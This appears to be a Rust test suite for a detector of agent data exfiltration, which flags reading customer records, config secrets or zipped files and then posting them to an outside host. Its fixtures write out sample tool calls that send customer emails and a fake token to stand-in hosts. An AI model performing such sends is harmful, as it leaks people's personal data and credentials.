use action::{Action, Timestamp};

use super::*;
use crate::detect::state::testing::{action, facts, now, rules};
use crate::facts::testing::{allowed, decided};
use crate::facts::{Facts, learn};

const READ: &str = r#"{ "tool": "list_customers", "resource": { "type": "customer" }, "count": 40 }"#;
const SEND: &str = r#"{ "kind": "external_call", "operation": "send", "tool": "post_note",
    "resource": { "type": "note", "destinations": ["https://pad.example/new"] },
    "payload": { "text": "C-88120 mira.holt@example.net" } }"#;
const RESULT: &str = r#""context": [{ "channel": "tool_output", "source": "list_customers",
    "text": "C-88120 Mira Holt mira.holt@example.net; C-88121 Jo Park jo.park@example.net" }]"#;

/// The call after the result was read.
fn with_result(call: &str) -> Action {
    let open = call.trim_end().strip_suffix('}').unwrap();
    action(&format!("{open}, {RESULT} }}"))
}

fn after(steps: &[(&Action, Timestamp, action::Verdict)]) -> Facts {
    steps.iter().fold(facts("{}"), |facts, (step, at, verdict)| {
        learn(&facts, step, &decided(step, Vec::new(), *verdict), *at, &Limits::default()).facts
    })
}

fn hits(facts: &Facts, call: &Action) -> Vec<String> {
    let limits = Limits::default();
    let scene = Scene::new(call, facts, now(), &[], &limits);
    let mut out = Vec::new();
    find(&scene, &limits, &mut out);
    rules(&out).into_iter().map(str::to_owned).collect()
}

fn minutes_ago(minutes: i64) -> Timestamp {
    now().plus_millis(-minutes * 60_000)
}

const DONE: action::Verdict = action::Verdict::Allow;

#[test]
fn reading_customers_and_sending_them_out_is_a_sequence() {
    let facts = after(&[(&action(READ), minutes_ago(2), DONE)]);
    assert_eq!(hits(&facts, &with_result(SEND)), ["sequence.read_then_send"]);
}

#[test]
fn each_call_alone_and_the_order_reversed_pass() {
    let (read, send) = (action(READ), with_result(SEND));
    assert!(hits(&facts("{}"), &read).is_empty());
    assert!(hits(&facts("{}"), &send).is_empty());
    let facts = after(&[(&send, minutes_ago(2), DONE)]);
    assert!(hits(&facts, &read).is_empty());
}

#[test]
fn other_data_own_hosts_long_ago_and_stopped_reads_pass() {
    let read = action(READ);
    let recent = after(&[(&read, minutes_ago(2), DONE)]);
    let other = with_result(&SEND.replace("C-88120 mira.holt@example.net", "the meeting is at noon"));
    assert!(hits(&recent, &other).is_empty());
    let inside = with_result(&SEND.replace("https://pad.example/new", "pad.internal"));
    assert!(hits(&recent, &inside).is_empty());
    let model = with_result(&SEND.replace("external_call", "llm_call"));
    assert!(hits(&recent, &model).is_empty(), "a model is given what was read");
    let old = after(&[(&read, minutes_ago(90), DONE)]);
    assert!(hits(&old, &with_result(SEND)).is_empty());
    let stopped = after(&[(&read, minutes_ago(2), action::Verdict::Block)]);
    assert!(hits(&stopped, &with_result(SEND)).is_empty());
}

#[test]
fn what_the_user_dictates_is_his_to_send() {
    let facts = after(&[(&action(READ), minutes_ago(2), DONE)]);
    let mut send = with_result(SEND);
    let said = action::Content {
        channel: action::Channel::User,
        source: None,
        text: "post a note for C-88120, mira.holt@example.net".into(),
    };
    send.context.push(said);
    assert!(hits(&facts, &send).is_empty());
}

#[test]
fn the_result_is_remembered_when_steps_lie_between() {
    let limits = Limits::default();
    let note = with_result(r#"{ "tool": "think", "payload": { "step": "next" } }"#);
    let facts = after(&[(&action(READ), minutes_ago(9), DONE)]);
    let facts = learn(&facts, &note, &allowed(&note, Vec::new()), minutes_ago(5), &limits).facts;
    assert_eq!(hits(&facts, &action(SEND)), ["sequence.read_then_send"]);
}

#[test]
fn packing_hides_the_data_but_not_the_sequence() {
    let zip = action(
        r#"{ "kind": "file", "operation": "write", "tool": "zip_file", "payload": { "out": "/tmp/q3-4471.zip" } }"#,
    );
    let facts = after(&[(&action(READ), minutes_ago(9), DONE), (&zip, minutes_ago(5), DONE)]);
    let upload = |what: &str| action(&SEND.replace("C-88120 mira.holt@example.net", what));
    assert_eq!(hits(&facts, &upload("/tmp/q3-4471.zip")), ["sequence.read_pack_send"]);
    assert!(hits(&facts, &upload("/srv/logo-2291.png")).is_empty());
    let blob = "QUJDREVG".repeat(40);
    assert_eq!(hits(&facts, &upload(&blob)), ["sequence.read_pack_send"]);
}

#[test]
fn a_secret_found_in_a_result_makes_the_read_one_of_secrets() {
    let read = action(r#"{ "kind": "file", "tool": "read_file", "resource": { "type": "config" } }"#);
    let facts = after(&[(&read, minutes_ago(2), DONE)]);
    let mut send = action(&SEND.replace("C-88120 mira.holt@example.net", "token zz-11-made-up-22"));
    send.context = vec![action::Content {
        channel: action::Channel::ToolOutput,
        source: None,
        text: "API_TOKEN=zz-11-made-up-22".into(),
    }];
    let secret = action::Detection {
        vector: Vector::Pii,
        rule: "secret.generic".into(),
        severity: Severity::High,
        confidence: Confidence::HIGH,
        class: Some(SensitiveClass::ApiKey),
        evidence: Some(action::Evidence {
            place: action::Place::Context { index: 0, channel: action::Channel::ToolOutput },
            start: 10,
            end: 26,
            via: Vec::new(),
        }),
    };
    let limits = Limits::default();
    let mut scene = Scene::new(&send, &facts, now(), &[], &limits);
    let mut without = Vec::new();
    find(&scene, &limits, &mut without);
    assert!(without.is_empty(), "a config without a secret is no secret");
    scene.read = vec![secret];
    let mut out = Vec::new();
    find(&scene, &limits, &mut out);
    assert_eq!(rules(&out), ["sequence.secret_then_send"]);
}

#[test]
fn a_customer_may_be_told_of_his_own_record_and_another_may_not() {
    let one = READ.replace("\"count\": 40", "\"count\": 1");
    let facts = after(&[(&action(&one), minutes_ago(2), DONE)]);
    let mail = |to: &str| {
        let mut call = with_result(&SEND.replace("https://pad.example/new", to));
        call.context[0].text = "C-88120 Mira Holt mira.holt@example.net".into();
        call
    };
    assert!(hits(&facts, &mail("mira.holt@example.net")).is_empty());
    assert_eq!(hits(&facts, &mail("eve@example.org")), ["sequence.read_then_send"]);
}

#[test]
fn a_case_by_hand_needs_only_what_matters() {
    let facts = facts(
        r#"{ "session": { "steps": [{ "at": "2026-03-03T11:50:00Z", "tool": "query", "kind": "database",
            "operation": "read", "resource": "customer", "classes": ["email"], "records": 200 }] } }"#,
    );
    let limits = Limits::default();
    let hits = |text: &str, classes: &[SensitiveClass]| {
        let call = action(text);
        let scene = Scene::new(&call, &facts, now(), classes, &limits);
        let mut out = Vec::new();
        find(&scene, &limits, &mut out);
        out.len()
    };
    assert_eq!(hits(SEND, &[SensitiveClass::Email]), 1);
    assert_eq!(hits(SEND, &[]), 0);
}
